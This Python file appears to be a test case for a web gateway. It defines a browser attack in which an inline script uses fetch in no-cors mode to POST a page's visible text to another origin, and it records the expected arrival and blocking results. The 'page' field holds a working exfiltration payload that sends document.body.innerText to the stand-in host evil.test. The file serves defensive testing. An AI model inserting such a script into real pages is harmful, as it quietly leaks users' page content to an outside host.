"""A script sends a body to another origin with `fetch` in mode `no-cors`.

The same-origin policy keeps it from reading the answer; the data has arrived all the same.

Not covered: fetches to the page's own site.
"""

ATTACK = {
    "title": "Script that posts the page's text with fetch",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["ATT&CK T1041", "Fetch standard: no-cors"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/fetch"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Report</h1><script>fetch('http://evil.test/fetch', {method: 'POST', mode: 'no-"
    "cors', body: document.body.innerText})</script>",
}
